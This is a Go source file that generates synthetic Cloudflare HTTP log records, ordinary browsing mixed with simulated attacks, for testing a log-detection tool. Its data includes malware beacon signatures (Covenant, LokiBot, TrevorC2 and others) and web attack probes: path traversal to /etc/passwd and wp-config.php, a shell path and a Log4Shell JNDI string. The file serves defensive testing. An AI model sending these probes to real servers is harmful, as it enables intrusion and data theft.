// Package traffic generates Cloudflare Logpush http_requests records: the
// one generator behind `raywatch serve --demo`, `raywatch bench` and the
// tests. Most records are ordinary browsing from many clients; attacks
// that each built-in detection fires on (and SigmaHQ-style probes, and
// hits on an IOC feed) are mixed in. Addresses come from the
// documentation ranges (RFC 5737, RFC 3849).
package traffic

import (
	"encoding/base64"
	"fmt"
	"hash/fnv"
	"math/rand/v2"
	"strings"
	"time"
)

// Request is what varies between records; [Render] makes the record.
type Request struct {
	IP, Method, Host, URI, UA, Referer string
	Status                             int
	Time                               time.Time
	RayID                              string
}

// Render returns r as one Logpush http_requests record (a JSON object, no
// newline), appended to dst. It is a pure function of r: the fields r does
// not set (sizes, ports, country, colo) are derived from its RayID, so
// that the same request always makes the same bytes.
func Render(dst []byte, r Request) []byte {
	h := fnv.New64a()
	h.Write([]byte(r.RayID))
	x := h.Sum64()
	pick := func(n int) int { // a few bits of x at a time
		v := int(x % uint64(n))
		x = x/uint64(n) ^ x>>61
		return v
	}
	path, _, _ := strings.Cut(r.URI, "?")
	cc, asn := country(r.IP)
	device := "desktop"
	if strings.Contains(r.UA, "Mobile") {
		device = "mobile"
	}
	start := r.Time.UnixNano()
	end := start + int64(5+pick(300))*int64(time.Millisecond)
	return fmt.Appendf(dst, `{"CacheCacheStatus":"hit","CacheResponseBytes":%d,"CacheResponseStatus":200,"ClientASN":%d,"ClientCountry":%q,"ClientDeviceType":%q,"ClientIP":%q,"ClientIPClass":"noRecord","ClientRequestBytes":%d,"ClientRequestHost":%q,"ClientRequestMethod":%q,"ClientRequestPath":%q,"ClientRequestProtocol":"HTTP/2","ClientRequestReferer":%q,"ClientRequestScheme":"https","ClientRequestSource":"eyeball","ClientRequestURI":%q,"ClientRequestUserAgent":%q,"ClientSSLCipher":"AEAD-AES128-GCM-SHA256","ClientSSLProtocol":"TLSv1.3","ClientSrcPort":%d,"ClientTCPRTTMs":%d,"ClientXRequestedWith":"","EdgeColoCode":%q,"EdgeColoID":29,"EdgeEndTimestamp":%d,"EdgePathingOp":"wl","EdgePathingSrc":"macro","EdgePathingStatus":"nr","EdgeRateLimitAction":"","EdgeRateLimitID":0,"EdgeRequestHost":%q,"EdgeResponseBytes":%d,"EdgeResponseContentType":"text/html","EdgeResponseStatus":%d,"EdgeServerIP":"","EdgeStartTimestamp":%d,"OriginIP":"192.0.2.10","OriginResponseStatus":200,"OriginResponseTime":%d,"RayID":%q,"SecurityLevel":"med","WAFAction":"unknown","WorkerSubrequest":false,"ZoneID":123456789,"ZoneName":"example.com"}`,
		40000+pick(20000), asn, cc, device, r.IP, 300+pick(2000), r.Host, r.Method, path, r.Referer, r.URI, r.UA,
		1024+pick(64000), 10+pick(50), colos[pick(len(colos))], end, r.Host, 200+pick(90000), r.Status, start,
		12000000+pick(1000000), r.RayID)
}

var countries = []struct {
	cc     string
	asn    int
	weight int
}{
	{"us", 7922, 24}, {"fr", 3215, 9}, {"de", 3320, 9}, {"gb", 2856, 8}, {"nl", 1136, 4}, {"jp", 2516, 5},
	{"br", 28573, 5}, {"in", 9829, 6}, {"ca", 812, 4}, {"au", 1221, 3}, {"sg", 4657, 2}, {"es", 3352, 3},
	{"it", 3269, 3}, {"pl", 5617, 2}, {"se", 3301, 2}, {"kr", 4766, 3}, {"za", 37457, 1}, {"mx", 8151, 2},
	{"cn", 4134, 3}, {"ru", 12389, 2},
}

// country returns the country and AS of an address, the same each time.
func country(ip string) (string, int) {
	h := uint32(2166136261)
	for i := 0; i < len(ip); i++ {
		h = (h ^ uint32(ip[i])) * 16777619
	}
	total := 0
	for _, c := range countries {
		total += c.weight
	}
	n := int(h % uint32(total))
	for _, c := range countries {
		if n < c.weight {
			return c.cc, c.asn
		}
		n -= c.weight
	}
	return "us", 7922
}

var (
	// userAgents are browsers and one search engine. Neither Googlebot's
	// exact user-agent nor tools (curl, python-requests): SigmaHQ's proxy
	// rules list them, so on web logs they would fire on ordinary traffic
	// and an attack rate would mean nothing.
	userAgents = []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
		"Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
		"Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
		"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
	}
	hosts = []string{"www.example.com", "www.example.com", "shop.example.com", "shop.example.com", "api.example.com", "static.example.com"}
	colos = []string{"CDG", "FRA", "LHR", "AMS", "IAD", "SJC", "NRT", "SIN", "GRU", "SYD"}
	words = []string{"shoes", "laptop", "gift", "coffee", "lamp", "desk", "jacket", "headphones", "book", "tent"}
	// probePaths are requests SigmaHQ's web rules look for.
	probePaths = []string{"/index.php?page=../../../../etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php", "/?x=${jndi:ldap://203.0.113.9/a}", "/owa/auth/x.js", "/.git/config"}
)

// DemoIOCs is the indicator file of the demo: the generator's default
// IOC hits are its addresses and domain.
const DemoIOCs = `# raywatch demo indicators (written by raywatch serve --demo)
203.0.113.66 # Demo C2 relay (fictitious)
198.51.100.200 # Demo scanner known for credential stuffing (fictitious)
evil-cdn.example.net # Demo phishing kit host (fictitious)
`

// Generator makes requests. It is not safe for concurrent use.
type Generator struct {
	rnd *rand.Rand
	ips []string
	// IOCIPs and IOCDomains are the indicators the IOC attacks use: those
	// of [DemoIOCs] until [Generator.WriteIOCs] replaces them.
	IOCIPs, IOCDomains []string
}

// New returns a generator whose output depends only on seed.
func New(seed uint64) *Generator {
	g := &Generator{
		rnd:        rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)),
		IOCIPs:     []string{"203.0.113.66", "198.51.100.200"},
		IOCDomains: []string{"evil-cdn.example.net"},
	}
	for _, p := range []string{"192.0.2.", "198.51.100.", "203.0.113."} {
		for i := 1; i < 255; i++ {
			g.ips = append(g.ips, p+fmt.Sprint(i))
		}
	}
	for i := range 120 {
		g.ips = append(g.ips, fmt.Sprintf("2001:db8:%x::%x", 0x100+i*7, i+1))
	}
	return g
}

func (g *Generator) pick(list []string) string { return list[g.rnd.IntN(len(list))] }

// Browse returns an ordinary request, without time or RayID.
func (g *Generator) Browse() Request {
	r := Request{IP: g.pick(g.ips), Method: "GET", Host: g.pick(hosts), UA: g.pick(userAgents), Status: 200}
	switch g.rnd.IntN(12) {
	case 0:
		r.URI = "/"
	case 1:
		r.URI = fmt.Sprintf("/products/%d", 1000+g.rnd.IntN(9000))
	case 2:
		r.URI, r.Method = "/cart", "POST"
	case 3:
		r.URI = "/checkout"
	case 4:
		r.URI, r.Host = fmt.Sprintf("/api/v1/items?page=%d", 1+g.rnd.IntN(20)), "api.example.com"
	case 5:
		r.URI, r.Host = fmt.Sprintf("/static/app.%08x.js", g.rnd.Uint32()), "static.example.com"
	case 6:
		r.URI, r.Host = fmt.Sprintf("/images/%d.webp", g.rnd.IntN(500)), "static.example.com"
	case 7:
		r.URI, r.Method = "/login", "POST"
	case 8:
		r.URI = "/search?q=" + g.pick(words)
	case 9:
		r.URI, r.Status = "/favicon.ico", 304
	case 10:
		r.URI = "/robots.txt"
	default:
		r.URI = fmt.Sprintf("/blog/%d/%s", 2020+g.rnd.IntN(6), g.pick(words))
	}
	if g.rnd.IntN(3) == 0 {
		r.Referer = "https://www.example.com/"
	}
	if g.rnd.IntN(40) == 0 {
		r.Status = 500
	}
	return r
}

// Attacks is the number of attack kinds of [Generator.Attack].
const Attacks = 8

// Attack returns a request of attack kind k (0 to Attacks-1): each
// built-in rule's traffic (Covenant, Bazar, Lemon Duck, LokiBot,
// TrevorC2), from a few addresses per attack so that grouped alerts count
// up; a request from an IOC address; a referrer on an IOC domain; a probe
// SigmaHQ's web rules look for.
func (g *Generator) Attack(k int) Request {
	switch k {
	case 0: // Covenant Grunt beaconing
		paths := []string{"/en-us/index.html", "/en-us/docs.html", "/en-us/test.html?message=" + g.b64(12)}
		return Request{IP: g.pick([]string{"203.0.113.50", "203.0.113.51"}), Method: g.pick([]string{"GET", "POST"}), Host: "www.example.com",
			URI: g.pick(paths), UA: "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36", Status: 404}
	case 1: // Bazar task polling
		return Request{IP: g.pick([]string{"198.51.100.77", "2001:db8:bad::7"}), Method: "GET", Host: "api.example.com", URI: "/pool/job/priority/normal", Status: 404}
	case 2: // Lemon Duck
		return Request{IP: g.pick([]string{"192.0.2.45", "192.0.2.46", "192.0.2.47"}), Method: "POST", Host: "www.example.com", URI: "/report.json",
			UA: "Lemon-Duck-" + g.letters(5) + "-" + g.letters(8), Status: 404}
	case 3: // LokiBot check-in
		return Request{IP: "198.51.100.13", Method: "POST", Host: "shop.example.com", URI: "/wp-content/plugins/x/fre.php",
			UA: "Mozilla/4.08 (Charon; Inferno)", Status: 404}
	case 4: // TrevorC2
		return Request{IP: "203.0.113.99", Method: "GET", Host: "www.example.com", URI: "/images?guid=" + g.b64(24),
			UA: "Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko", Status: 200}
	case 5: // an address of the IOC feed
		r := g.Browse()
		r.IP = g.pick(g.IOCIPs)
		return r
	case 6: // a referrer (or host) on a domain of the IOC feed
		r := g.Browse()
		r.Referer = "https://login." + g.pick(g.IOCDomains) + "/kit/index.html"
		return r
	default: // a SigmaHQ-style probe
		r := g.Browse()
		r.URI = g.pick(probePaths)
		return r
	}
}

func (g *Generator) letters(n int) string {
	const abc = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
	b := make([]byte, n)
	for i := range b {
		b[i] = abc[g.rnd.IntN(len(abc))]
	}
	return string(b)
}

func (g *Generator) b64(n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(g.rnd.UintN(256))
	}
	return base64.StdEncoding.EncodeToString(b)
}

// RayID returns a fresh random RayID.
func (g *Generator) RayID() string { return fmt.Sprintf("%016x", g.rnd.Uint64()) }
